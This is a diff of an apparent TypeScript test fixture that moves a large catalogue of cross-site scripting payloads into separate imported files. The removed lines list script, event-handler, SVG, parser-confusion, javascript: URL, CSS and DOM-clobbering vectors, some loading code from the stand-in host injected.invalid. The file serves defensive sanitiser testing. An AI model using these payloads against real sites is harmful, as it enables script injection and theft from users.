@@ -1,129 +1,17 @@
+import { ADDRESS_PAYLOADS } from './injection-payloads-addresses.js';
+import { ELEMENT_PAYLOADS } from './injection-payloads-elements.js';
+import { PARSING_PAYLOADS } from './injection-payloads-parsing.js';
+import { STYLE_PAYLOADS } from './injection-payloads-styles.js';
+import { TEXT_PAYLOADS } from './injection-payloads-texts.js';
+
 /**
- * Texts that were made to run as code somewhere, one or more for each way that is known. What runs calls `alert` or asks
+ * Texts that were made to run as code somewhere, by class, one for each way that is known. What runs calls `alert` or asks
  * `injected.invalid` for something, so that a browser that records both notices.
  */
 export const INJECTION_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
-  'script elements': [
-    '<script>alert(1)</script>',
-    '<SCRIPT SRC=//injected.invalid/x.js></SCRIPT>',
-    '<scr<script>ipt>alert(1)</scr</script>ipt>',
-    '<script/x>alert(1)</script >',
-    '<script type=module>import("//injected.invalid/m.js")</script>',
-  ],
-  'event handlers': [
-    '<img src=x onerror=alert(1)>',
-    '<img/src=x/onerror=alert(1)//',
-    '<p onpointerover="alert(1)">hover</p>',
-    '<a href="#" onclick=alert(1) autofocus onfocus=alert(1) tabindex=1>press</a>',
-    '<details open ontoggle=alert(1)>x</details>',
-    '<video><source onerror=alert(1)></video>',
-    '<p style="animation:x" onanimationstart=alert(1)>x</p>',
-    '<div popover onbeforetoggle=alert(1) id=popup-1>x</div>',
-  ],
-  'SVG and MathML': [
-    '<svg onload=alert(1)>',
-    '<svg><script>alert(1)</script></svg>',
-    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    '<math href="javascript:alert(1)">x</math>',
-    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
-  ],
-  'text that is read twice': [
-    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    '<template><img src=x onerror=alert(1)></template>',
-    '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
-    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-    '<plaintext><img src=x onerror=alert(1)>',
-    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-    '<!--><img src=x onerror=alert(1)>-->',
-    '<![CDATA[><img src=x onerror=alert(1)>]]>',
-    '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
-  ],
-  'script addresses': [
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="java&#10;script:alert(1)">x</a>',
-    '<a href="&#x6A;&#97;vascript&colon;alert(1)">x</a>',
-    '<a href=" \u0001javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt://%0Aalert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<img src="javascript:alert(1)">',
-  ],
-  'data addresses': [
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
-    '<embed src="data:text/html,<script>alert(1)</script>">',
-  ],
-  'style sheets': [
-    '<p style="background:url(//injected.invalid/a.png)">x</p>',
-    '<p style="width:expression(alert(1))">x</p>',
-    '<style>@import "//injected.invalid/b.css";</style>',
-    '<p style="color:red;}body{background:url(//injected.invalid/c.png)">x</p>',
-    '<span style="color:red;background-image:url(//injected.invalid/d.png);position:fixed;inset:0">x</span>',
-    '<link rel=stylesheet href=//injected.invalid/e.css>',
-  ],
-  'colours that end their rule': [
-    '#fff;}body{background:url(//injected.invalid/f.png)}',
-    'red}</style><script>alert(1)</script>',
-    '#123456\\3c/style><img src=x onerror=alert(1)>',
-    'rgb(0,0,0);background:url(//injected.invalid/g.png)',
-    'var(--x,url(//injected.invalid/h.png))',
-  ],
-  'ends of attributes and elements': [
-    '"><img src=x onerror=alert(1)>',
-    "'><svg onload=alert(1)>",
-    '` onmouseover=alert(1) x=`',
-    '</title><script>alert(1)</script>',
-    '</style><script>alert(1)</script>',
-    '</h1></main></body><script>alert(1)</script>',
-    '</dialog><iframe src=//injected.invalid/></iframe>',
-    '</script><script>alert(1)</script>',
-    '{"a":"</script><!--<script>alert(1)//"}',
-  ],
-  'names that hide others': [
-    '<form id=popup-1><input name=showModal><input id=tile-1></form>',
-    '<img name=getElementById><img id=history><a id=location href=//injected.invalid/>x</a>',
-    '<form name=document><output id=body></form>',
-  ],
-  'other documents': [
-    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-    '<iframe src=javascript:alert(1)></iframe>',
-    '<meta http-equiv=refresh content="0;url=//injected.invalid/">',
-    '<base href=//injected.invalid/><a href=x>x</a>',
-    '<form action=//injected.invalid/><button autofocus formaction=javascript:alert(1)>x</button></form>',
-    '<link rel=prefetch href=//injected.invalid/p><link rel=dns-prefetch href=//injected.invalid>',
-    '<object type=text/html data=//injected.invalid/></object><portal src=//injected.invalid/></portal>',
-  ],
-  'unusual characters': [
-    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
-    '<\u200bimg src=x onerror=alert(1)>',
-    '<img\u2028src=x\u2029onerror=alert(1)>',
-    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-    '%3Cimg%20src=x%20onerror=alert(1)%3E',
-    '\\u003cimg src=x onerror=alert(1)\\u003e',
-    '\u202e<img src=x onerror=alert(1)>\u202c',
-    '&lt;img src=x onerror=alert(1)&gt;',
-    '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
-  ],
+  ...ELEMENT_PAYLOADS,
+  ...PARSING_PAYLOADS,
+  ...ADDRESS_PAYLOADS,
+  ...STYLE_PAYLOADS,
+  ...TEXT_PAYLOADS,
 };
-
-/** The same for a place that takes an address. */
-export const INJECTION_ADDRESSES: readonly string[] = [
-  'javascript:alert(1)',
-  ' javascript:alert(1)',
-  'JAVASCRIPT:alert(1)',
-  'java\tscript:alert(1)',
-  'java\nscript:alert(1)',
-  'javascript://example.org/%0aalert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  'vbscript:msgbox(1)',
-  'https://example.org/"onfocus="alert(1)" autofocus="',
-  "https://example.org/'><script>alert(1)</script>",
-  'https://example.org/\u0000javascript:alert(1)',
-  'about:srcdoc',
-  'blob:https://example.org/x',
-  '//injected.invalid',
-];
